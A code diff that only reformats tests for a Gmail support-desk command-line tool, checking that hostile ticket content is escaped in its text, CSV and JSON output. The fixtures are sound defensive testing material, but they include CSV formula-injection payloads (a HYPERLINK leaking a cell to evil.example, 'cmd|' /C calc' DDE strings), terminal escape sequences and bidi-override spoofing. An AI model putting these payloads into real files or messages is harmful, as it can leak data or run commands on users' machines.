@@ -36,15 +36,33 @@ departments:
 LINK = "[link=http://evil.example/login]Click to verify payment[/link]"
 UNCLOSED = "Refund [/unclosed] please"
 ESCAPES = "\x1b[2J\x1b[5mBlinking \x1b]8;;http://evil.example/\x1b\\click here\x1b]8;;\x1b\\ \u202etxt.exe"
-FORMULAS = {"f1": '=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")', "f2": "+cmd|' /C calc'!A0",
-            "f3": "@SUM(1+1)*cmd|' /C calc'!A0", "f4": "-2+3+cmd|' /C calc'!A0", "f5": "\tcmd"}
+FORMULAS = {
+    "f1": '=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")',
+    "f2": "+cmd|' /C calc'!A0",
+    "f3": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "f4": "-2+3+cmd|' /C calc'!A0",
+    "f5": "\tcmd",
+}
 
 
 def _row(tid, subject, customer="ann@cust.test", *, first=NOW - 2 * H, due=NOW + 2 * H, dept="Billing", **kw):
-    return ThreadRow(tid, state="new", department=dept, last_counted_id=f"m-{tid}", last_counted_side="customer",
-                     last_counted_at=first, first_customer_at=first, due_at=due, message_ids=[f"m-{tid}"],
-                     updated_at=NOW - H, subject=subject, customer=customer, waiting_since=first,
-                     messages=[MessageFact(f"m-{tid}", first, "customer", customer)], **kw)
+    return ThreadRow(
+        tid,
+        state="new",
+        department=dept,
+        last_counted_id=f"m-{tid}",
+        last_counted_side="customer",
+        last_counted_at=first,
+        first_customer_at=first,
+        due_at=due,
+        message_ids=[f"m-{tid}"],
+        updated_at=NOW - H,
+        subject=subject,
+        customer=customer,
+        waiting_since=first,
+        messages=[MessageFact(f"m-{tid}", first, "customer", customer)],
+        **kw,
+    )
 
 
 def _store(path: Path, rows, journal=()) -> None:
@@ -76,9 +94,15 @@ def desk(tmp_path, monkeypatch):
 @pytest.fixture
 def hostile(tmp_path, desk):
     store = tmp_path / "s.sqlite"
-    _store(store, [_row("h1", LINK, first=NOW - 5 * H), _row("h2", UNCLOSED, first=NOW - 4 * H),
-                   _row("h3", ESCAPES, "\u202emoc.live@nna\x1b[0m", first=NOW - 3 * H)],
-           [JournalEntry("h2", None, "new", f"customer wrote: {UNCLOSED} {ESCAPES}", NOW - 4 * H, "m-h2")])
+    _store(
+        store,
+        [
+            _row("h1", LINK, first=NOW - 5 * H),
+            _row("h2", UNCLOSED, first=NOW - 4 * H),
+            _row("h3", ESCAPES, "\u202emoc.live@nna\x1b[0m", first=NOW - 3 * H),
+        ],
+        [JournalEntry("h2", None, "new", f"customer wrote: {UNCLOSED} {ESCAPES}", NOW - 4 * H, "m-h2")],
+    )
     return ["-c", str(desk), "--store", str(store)]
 
 
@@ -117,9 +141,14 @@ def test_escape_sequences_and_bidi_overrides_are_shown_escaped(hostile):
 
 def test_csv_cells_that_start_like_a_formula_are_neutralised(tmp_path, desk):
     store = tmp_path / "f.sqlite"
-    _store(store, [_row(tid, subject, customer=subject[::-1].strip() + "@x.test", first=NOW - (i + 1) * H)
-                   for i, (tid, subject) in enumerate(FORMULAS.items())]
-           + [_row("f6", "Refund =2+2", "=1+1@x.test", dept="@Billing", first=NOW - 9 * H)])
+    _store(
+        store,
+        [
+            _row(tid, subject, customer=subject[::-1].strip() + "@x.test", first=NOW - (i + 1) * H)
+            for i, (tid, subject) in enumerate(FORMULAS.items())
+        ]
+        + [_row("f6", "Refund =2+2", "=1+1@x.test", dept="@Billing", first=NOW - 9 * H)],
+    )
     args = ["-c", str(desk), "--store", str(store)]
     rows = list(csv.DictReader(io.StringIO(invoke(["threads", *args, "--csv"]).stdout)))
     subjects = {r["thread"]: r["subject"] for r in rows}
@@ -136,8 +165,9 @@ def test_csv_cells_that_start_like_a_formula_are_neutralised(tmp_path, desk):
     # Negative numbers are numbers, not text: an overdue due_in_s keeps its minus sign.
     store2 = tmp_path / "o.sqlite"
     _store(store2, [_row("o1", "late", due=NOW - H)])
-    late = list(csv.DictReader(io.StringIO(invoke(["threads", "-c", str(desk), "--store", str(store2),
-                                                   "--csv"]).stdout)))
+    late = list(
+        csv.DictReader(io.StringIO(invoke(["threads", "-c", str(desk), "--store", str(store2), "--csv"]).stdout))
+    )
     assert late[0]["due_in_s"] == "-3600"
     # next --csv and report --csv go through the same writer.
     nxt = list(csv.DictReader(io.StringIO(invoke(["next", *args, "--csv"]).stdout)))
@@ -155,15 +185,30 @@ def test_json_keeps_formulas_exact(tmp_path, desk):
 
 def test_dates_after_9999_never_crash_the_audit(tmp_path, desk):
     store = tmp_path / "d.sqlite"
-    _store(store, [_row("d1", "from the far future", first=2**62, due=INT64_MAX),
-                   _row("d2", "deadline in year 19 million", first=NOW - H, due=NOW + 604_800_000 * 999_999_999),
-                   _row("d3", "before year 1", first=-(2**62), due=-(2**62)),
-                   _row("ok", "normal", first=NOW - H)],
-           [JournalEntry("d1", None, "new", "customer wrote", INT64_MAX, "m-d1")])
+    _store(
+        store,
+        [
+            _row("d1", "from the far future", first=2**62, due=INT64_MAX),
+            _row("d2", "deadline in year 19 million", first=NOW - H, due=NOW + 604_800_000 * 999_999_999),
+            _row("d3", "before year 1", first=-(2**62), due=-(2**62)),
+            _row("ok", "normal", first=NOW - H),
+        ],
+        [JournalEntry("d1", None, "new", "customer wrote", INT64_MAX, "m-d1")],
+    )
     args = ["-c", str(desk), "--store", str(store)]
-    for command in (["threads"], ["show", "d1"], ["show", "d2"], ["show", "d3"], ["next"], ["status"],
-                    ["report", "--since", "36500d"], ["report", "--by", "week", "--since", "36500d"],
-                    ["threads", "--sort", "sla"], ["threads", "--csv"], ["report", "--csv", "--by", "week"]):
+    for command in (
+        ["threads"],
+        ["show", "d1"],
+        ["show", "d2"],
+        ["show", "d3"],
+        ["next"],
+        ["status"],
+        ["report", "--since", "36500d"],
+        ["report", "--by", "week", "--since", "36500d"],
+        ["threads", "--sort", "sla"],
+        ["threads", "--csv"],
+        ["report", "--csv", "--by", "week"],
+    ):
         invoke([*command, *args], env=WIDE)
     listing = invoke(["threads", *args], env=WIDE).stdout
     assert "9999-12-31T23:59:59Z" in listing and "normal" in listing
@@ -185,10 +230,10 @@ def test_a_huge_sla_in_desk_yaml_does_not_crash_an_old_store(tmp_path, desk):
     assert json.loads(invoke(["status", *args, "--json"]).stdout)["overdue"] == 0
 
 
-@pytest.mark.parametrize("flag,command", [("--since", "report"), ("--older-than", "threads"),
-                                          ("--max-age", "status")])
-@pytest.mark.parametrize("value", ["999999999999d", "99999999999999999999999999999999999999999999w", "36501d",
-                                   "9" * 5000 + "d", "²s"])
+@pytest.mark.parametrize("flag,command", [("--since", "report"), ("--older-than", "threads"), ("--max-age", "status")])
+@pytest.mark.parametrize(
+    "value", ["999999999999d", "99999999999999999999999999999999999999999999w", "36501d", "9" * 5000 + "d", "²s"]
+)
 def test_ages_out_of_range_are_usage_errors(hostile, flag, command, value):
     result = invoke([command, *hostile, flag, value], ExitCode.USAGE)
     assert result.stdout == ""
@@ -198,12 +243,19 @@ def test_ages_out_of_range_are_usage_errors(hostile, flag, command, value):
 
 def test_flags_are_marked_listed_and_in_json(tmp_path, desk):
     store = tmp_path / "flags.sqlite"
-    _store(store, [_row("p1", "Auto: claim for my car", first=NOW - 3 * H), _row("u1", "Refund approved",
-                                                                                   "boss@example.com",
-                                                                                   first=NOW - 2 * H),
-                   _row("n1", "plain", first=NOW - H)])
-    _set_flags(store, {"p1": '["possibly_automatic"]', "u1": '["unverified_sender"]', "n1": "[]"},
-               {"p1": '["possibly_automatic"]'})
+    _store(
+        store,
+        [
+            _row("p1", "Auto: claim for my car", first=NOW - 3 * H),
+            _row("u1", "Refund approved", "boss@example.com", first=NOW - 2 * H),
+            _row("n1", "plain", first=NOW - H),
+        ],
+    )
+    _set_flags(
+        store,
+        {"p1": '["possibly_automatic"]', "u1": '["unverified_sender"]', "n1": "[]"},
+        {"p1": '["possibly_automatic"]'},
+    )
     args = ["-c", str(desk), "--store", str(store)]
     lines = invoke(["threads", *args], env=WIDE).stdout.splitlines()
     assert "possibly automatic" in next(line for line in lines if "Auto: claim" in line)
@@ -213,12 +265,14 @@ def test_flags_are_marked_listed_and_in_json(tmp_path, desk):
     assert "Flags: possibly automatic" in shown and "customer (possibly automatic)" in shown
     doc = json.loads(invoke(["threads", *args, "--json"]).stdout)
     assert {t["thread"]: t["flags"] for t in doc["threads"]} == {
-        "p1": ["possibly_automatic"], "u1": ["unverified_sender"], "n1": []}
+        "p1": ["possibly_automatic"],
+        "u1": ["unverified_sender"],
+        "n1": [],
+    }
     detail = json.loads(invoke(["show", "p1", *args, "--json"]).stdout)
     assert detail["messages"][0]["flags"] == ["possibly_automatic"]
     table = list(csv.DictReader(io.StringIO(invoke(["threads", *args, "--csv"]).stdout)))
-    assert {r["thread"]: r["flags"] for r in table} == {"p1": "possibly_automatic", "u1": "unverified_sender",
-                                                         "n1": ""}
+    assert {r["thread"]: r["flags"] for r in table} == {"p1": "possibly_automatic", "u1": "unverified_sender", "n1": ""}
 
 
 def test_a_store_without_flags_reads_as_no_flags(tmp_path, desk):
@@ -243,7 +297,8 @@ def test_unreadable_flags_are_one_line_naming_the_store(tmp_path, desk):
     result = invoke(["threads", "-c", str(desk), "--store", str(store)], ExitCode.ERROR)
     assert result.stderr.splitlines() == [
         f"Error: {store}: conversation b1: its flags are not a JSON list of names (the store was edited or damaged)",
-        "Hint: move the file aside; the next sweep rebuilds it with a full scan"]
+        "Hint: move the file aside; the next sweep rebuilds it with a full scan",
+    ]
     assert result.stdout == ""
 
 
@@ -341,8 +396,9 @@ def test_errors_quoting_what_was_typed_or_read_are_escaped(hostile):
 def test_plan_shows_hostile_values_from_gmail_escaped(sandbox, gmail, tmp_path, monkeypatch):
     """The plan quotes what Gmail holds (the responder's subject, a label it will not delete)."""
     monkeypatch.setenv("GMAILDESK_DATA_DIR", str(tmp_path / "data"))
-    gmail.settings().updateVacation(userId="me", body={"enableAutoReply": True, "responseSubject": "Away \x1b[2J now",
-                                                       "responseBodyPlainText": "x"}).execute()
+    gmail.settings().updateVacation(
+        userId="me", body={"enableAutoReply": True, "responseSubject": "Away \x1b[2J now", "responseBodyPlainText": "x"}
+    ).execute()
     gmail.labels().create(userId="me", body={"name": "Dept/Bill\x1b[5ming \u202eevil"}).execute()
     config = tmp_path / "desk.yaml"
     config.write_text(DESK + "auto_ack:\n  enabled: true\n  body_text: hello\n")
